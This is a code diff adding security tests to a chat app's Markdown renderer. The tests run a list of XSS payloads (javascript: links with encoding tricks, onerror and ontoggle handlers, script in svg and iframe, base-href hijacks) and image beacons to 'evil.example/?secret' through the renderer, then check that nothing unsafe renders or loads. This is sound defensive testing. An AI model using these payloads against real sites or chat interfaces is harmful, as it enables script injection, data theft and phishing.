@@ -183,6 +183,107 @@ async function openChat(prepare?: (page: Page) => Promise<unknown>) {
   return { page, context, chat, requests, answer: chat.answers.last() };
 }
 
+/** Ways in which texts have got scripts, addresses or nodes past other readers of Markdown. */
+const HOSTILE = [
+  '[a](javascript:alert(1))',
+  '[a](JaVaScRiPt&colon;alert(1))',
+  '[a](java&#x09;script:alert(1))',
+  '[a](&#106;avascript:alert(1))',
+  '[a](\\x01javascript:alert(1))',
+  '[a]( javascript:alert(1) "x")',
+  '[a](<javascript:alert(1)>)',
+  '[a][b]\n\n[b]: javascript:alert(1)\n\nx',
+  '<javascript:alert(1)>',
+  '<data:text/html,%3Cscript%3Ealert(1)%3C/script%3E>',
+  '![a](https://evil.example/?secret)',
+  '![a][b]\n\n[b]: https://evil.example/?secret\n\nx',
+  '![a](x" onerror="alert(1))',
+  '[a](https://ok.example "\\" onmouseover=alert(1) \\"")',
+  '[https://bank.example](https://evil.example)',
+  '[bank.example](//evil.example)',
+  'https://bank.example@evil.example',
+  'https://ok.example/"onmouseover="alert(1)',
+  '<img src=x onerror=alert(1)>',
+  '<svg><script>alert(1)</script></svg>',
+  '<details open ontoggle=alert(1)>',
+  '<iframe srcdoc="<script>alert(1)</script>">',
+  '<a href="javascript:alert(1)">x</a>',
+  '<style>*{background:url(https://evil.example)}</style>',
+  '```\n</code></pre><script>alert(1)</script>\n```',
+  '```"><img src=x onerror=alert(1)>\nx\n```',
+  '`<img src=x onerror=alert(1)>`',
+  '| a |\n|---|\n| <img src=x onerror=alert(1)> [b](javascript:alert(1)) |',
+  '- [x](vbscript:msgbox) <input autofocus onfocus=alert(1)>',
+  '# <base href="https://evil.example">',
+  '&lt;script&gt;alert(1)&lt;/script&gt;',
+];
+
+it('no hostile text makes a node or an address that an answer may not have, at no moment of its stream', async () => {
+  const page = await bench();
+  const requests: string[] = [];
+  page.on('request', (request) => requests.push(request.url()));
+  await page.evaluate(() => {
+    window.alert = () => Object.assign(window, { wasRun: true });
+  });
+  const { found, looked } = await page.evaluate((texts) => {
+    const allowed =
+      /^(?:P|H[3-6]|UL|OL|LI|BLOCKQUOTE|PRE|CODE|HR|BR|DIV|TABLE|THEAD|TBODY|TR|TH|TD|EM|STRONG|DEL|A|SPAN)$/;
+    const found: string[] = [];
+    let looked = 0;
+    for (const text of texts) {
+      for (let cut = 0; cut <= Math.min(64, text.length); cut++) {
+        const { place, stream } = (window as unknown as Bench).open();
+        document.body.replaceChildren(place);
+        const look = () => {
+          looked++;
+          for (const element of place.querySelectorAll('*')) {
+            if (!allowed.test(element.tagName)) found.push(`${element.tagName} from ${text}`);
+            for (const { name, value } of element.attributes) {
+              const isFine =
+                /^(?:dir|class|rel|target|tabindex|scope|start|data-tight|data-language)$/.test(name) ||
+                (name === 'href' && /^(?:https?:\/\/[^@]*$|mailto:|tel:)/.test(value));
+              if (!isFine) found.push(`${name}=${value} from ${text}`);
+            }
+          }
+        };
+        stream.write(text.slice(0, cut));
+        look();
+        for (const sign of text.slice(cut)) {
+          stream.write(sign);
+          look();
+        }
+        stream.end();
+        look();
+      }
+    }
+    return { found: [...new Set(found)], looked };
+  }, HOSTILE);
+  expect(found).toEqual([]);
+  expect(looked).toBeGreaterThan(20_000);
+  expect(requests).toEqual([]);
+  expect(await page.evaluate(() => 'wasRun' in window)).toBe(false);
+  await page.close();
+});
+
+it('a link says where it leads, and a text that names another host is none', async () => {
+  const page = await bench();
+  const read = (text: string) =>
+    page.evaluate((given) => {
+      const place = document.createElement('div');
+      place.innerHTML = (window as unknown as Bench).draw([given]);
+      return [place.textContent, ...[...place.querySelectorAll('a')].map((a) => `${a.textContent} → ${a.href}`)];
+    }, text);
+  expect(await read('[the bank](https://evil.example/x)')).toEqual([
+    'the bank evil.example',
+    'the bank evil.example → https://evil.example/x',
+  ]);
+  expect(await read('[https://bank.example](https://evil.example)')).toEqual([
+    'https://bank.example evil.example',
+    'evil.example → https://evil.example/',
+  ]);
+  await page.close();
+});
+
 it('a picture that is its own data is named, and not printed', async () => {
   const page = await bench();
   const html = await page.evaluate(() =>
